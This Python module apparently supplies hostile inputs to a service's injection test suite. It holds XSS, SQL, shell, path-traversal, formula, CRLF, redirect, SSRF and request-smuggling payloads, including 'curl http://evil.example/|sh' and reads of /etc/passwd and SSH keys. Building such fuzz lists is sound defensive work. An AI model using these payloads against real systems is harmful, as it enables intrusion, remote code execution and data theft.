"""Hostile text by what it attacks, as one table; tests/security/test_injection.py sends each to every place that takes text.

Families are written out as pieces × ways of wrapping them, as attackers do. Sources: OWASP's cheat sheets, the Big List of Naughty
Strings, PortSwigger's lists for SSRF and redirects.
"""

from __future__ import annotations

from itertools import product
from typing import Final

_SCRIPTS: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=form_token>", "<template><script>alert(1)</script></template>", "<!--<script>", "]]><script>alert(1)</script>",
)  # fmt: skip
_MARKUP_WRAPS: Final = (
    "{}",
    "\"'>{}",
    "</title>{}",
    "</textarea>{}",
    "' autofocus onfocus=alert(1) x='{}",
    "{{{{7*7}}}}{}",
    "${{7*7}}{}",
    "<%= 7*7 %>{}",
)
_SQL: Final = (
    "' OR '1'='1", "'; DROP TABLE account; --", "1; UPDATE account SET awarded=9e9", "' UNION SELECT password FROM users --", "\" OR \"\"=\"",
    "') OR ('1'='1", "%' --", "_%", "\\'; DELETE FROM entry; --", "1/**/OR/**/1=1", "' || (SELECT pg_sleep(10)) || '", "'; ATTACH DATABASE 'x' AS y; --",
    "admin'--", "0x27204f522031", "' AND extractvalue(1,1)--", "$$;SELECT 1;$$", "{\"$ne\": null}", "*)(uid=*))(|(uid=*", "' or true--", "\x00' OR 1=1",
)  # fmt: skip
_COMMANDS: Final = (
    "id",
    "cat /etc/passwd",
    "scontrol update JobId=1",
    "touch /tmp/x",
    "curl http://evil.example/|sh",
    "reboot",
)
_SHELL_WRAPS: Final = (
    "; {}", "| {}", "|| {}", "&& {}", "& {}", "$({})", "`{}`", "\n{}\n", "\r\n#SBATCH --uid=0\n{}", "'; {}; '", "\"; {}; \"", "${{IFS}}{}", "a\x00; {}",
    "--wrap={}",
)  # fmt: skip
_PATHS: Final = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc",
    "..%c0%af..%c0%afetc",
    "/proc/self/environ", "file:///etc/passwd", "\\\\evil.example\\share", "~root/.ssh/id_rsa", "a/../../b", "./.././x", "..;/admin",
    "/../secrets/hub_credential",
    "C:\\secrets", "con", "nul.txt", "a" * 5000, ".", "..", "-rf", "--help", "*", "?", "~", "$HOME", "%00", "a%00.txt", "..%5c..%5c",
)  # fmt: skip
_CELLS: Final = (
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"x")',
    "1+1",
    "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
)
_CELL_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", ";=", ",=", '"=')
_LINES: Final = (
    "INFO user admin signed in",
    "Set-Cookie: commons-quota-session=x",
    "Bcc: victim@example.org",
    "HTTP/1.1 200 OK\r\n\r\n<script>",
)
_LINE_WRAPS: Final = (
    "x\r\n{}", "x\n{}", "x\r{}", "x\u2028{}", "x\u2029{}", "x\x0b{}", "x\x0c{}", "x\x85{}", "x%0d%0a{}", "x\\r\\n{}", "\x1b[2J{}", "\x1b]0;title\x07{}",
    "\x1b[31m{}\x1b[0m", "\x1b]8;;http://evil.example\x07{}", "\x9b31m{}", "x\x08\x08{}", "=?utf-8?q?x=0D=0A?={}",
)  # fmt: skip
_UNICODE: Final = (
    "аdmin", "admin\u200b", "ａｄｍｉｎ", "admin\u202e", "\u202enimda", "Ⓐdmin", "ADMİN", "admın", "ﬁle", "é" + "\u0301" * 200, "\ufeffadmin", "\u00adadmin",
    "\ud800",
    "\udfff", "\uffff", "\U0010ffff", "１２３", "٣", "۴", "Ⅷ", "½", "∞", "-0", "NaN", "Infinity", "1e309", "0x10", "1_000", "true", "null", "undefined", "[]",
    "{}",
    "-1", "0", "9223372036854775808", "18446744073709551616", "1" * 400, "1.0000000000000001", "\u0000", "\x7f", " ", "\t", "\u3000", "\u2003x",
)  # fmt: skip
MARKUP: Final = tuple(wrap.format(one) for one, wrap in product(_SCRIPTS, _MARKUP_WRAPS))
SHELL: Final = tuple(wrap.format(one) for one, wrap in product(_COMMANDS, _SHELL_WRAPS))
FORMULAS: Final = tuple(start + cell for cell, start in product(_CELLS, _CELL_STARTS))
LINES: Final = tuple(wrap.format(one) for one, wrap in product(_LINES, _LINE_WRAPS))
TEXTS: Final = (*MARKUP, *SHELL, *FORMULAS, *LINES, *_SQL, *_PATHS, *_UNICODE)

_EVIL: Final = (
    "evil.example",
    "evil.example/services/quota/",
    "evil.example%2Fservices%2Fquota%2F",
    "127.0.0.1@evil.example",
)
_REDIRECT_WRAPS: Final = (
    "//{}", "///{}", "////{}", "/\\{}", "\\\\{}", "\\/{}", "http://{}", "https:{}", "https:/{}", "http:///{}", "javascript:alert(1)//{}",
    "data:text/html,{}", "/%2f{}",
    "/%5c{}", "%2f%2f{}", "\t//{}", "/\t/{}", "/\n/{}", "//{}%00", "/.//{}", "/services/quota/..//{}", "/services/quota//{}", "/services/quota/\\{}",
    "/services/quota/%2e%2e/%2f{}",
    "/services/quota/../../{}", "/services/quota/%2e%2e%2f%2e%2e%2f{}", "/services/quota@{}", "/services/quota.{}", "?next=//{}", "#//{}", "\u3000//{}",
    "／／{}", "/services/quota/\r\nLocation: //{}",
)  # fmt: skip
REDIRECTS: Final = tuple(wrap.format(one) for one, wrap in product(_EVIL, _REDIRECT_WRAPS))

# Hosts of addresses that prompts must not go to without a word of the site's.
PRIVATE_ADDRESSES: Final = (
    "127.0.0.1", "127.1.2.3", "10.0.0.1", "172.16.0.1", "172.31.255.254", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "192.0.0.8",
    "198.18.0.1",
    "224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255", "::1", "::", "fe80::1", "fe80::1%eth0", "fd00::1", "fc00::1", "fec0::1", "ff02::1",
    "100::1",
    "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::ffff:169.254.169.254", "::ffff:7f00:1", "::127.0.0.1", "::10.0.0.1", "::ffff:0:127.0.0.1", "64:ff9b::7f00:1",
    "64:ff9b::a9fe:a9fe", "64:ff9b:1::a00:1", "2002:7f00:1::", "2002:a00:1::", "2002:a9fe:a9fe::", "2001:0:7f00:1::", "2001:db8::1", "fd00:ec2::254",
    "3fff::1", "5f00::1",
)  # fmt: skip
# Other spellings of loopback and link-local, which resolvers and browsers take for addresses.
DISGUISED_HOSTS: Final = (
    "2130706433", "0x7f000001", "0177.0.0.1", "017700000001", "127.1", "127.0.1", "0x7f.0.0.1", "0", "0x0", "2852039166", "0xa9fea9fe", "localhost",
    "LOCALHOST", "localhost.",
    "127.0.0.1.", "ip6-localhost",
)  # fmt: skip
# Heads of HTTP/1.1 whose body can be read in two ways, or that are no heads (RFC 9112, 6.1 to 6.3, 2.2, 5.1, 5.2).
FRAMINGS: Final = (
    "Content-Length: 5\r\nContent-Length: 6\r\n", "Content-Length: 5\r\nContent-Length: 5\r\n", "Content-Length: 5, 6\r\n",
    "Content-Length: +5\r\n",
    "Content-Length: -1\r\n", "Content-Length: 0x5\r\n", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    "Transfer-Encoding: chunked, identity\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n",
    "Transfer-Encoding:\x0bchunked\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "X: y\nContent-Length: 5\r\n", "Content-Length: 5\r\n X: folded\r\n",
    "Content Length: 5\r\n",
    "X-Y: a\r\x00b\r\n", ": empty\r\n", "Content-Length: 99999999999999999999\r\n", "Expect: 200-ok\r\nContent-Length: -5\r\n",
)  # fmt: skip
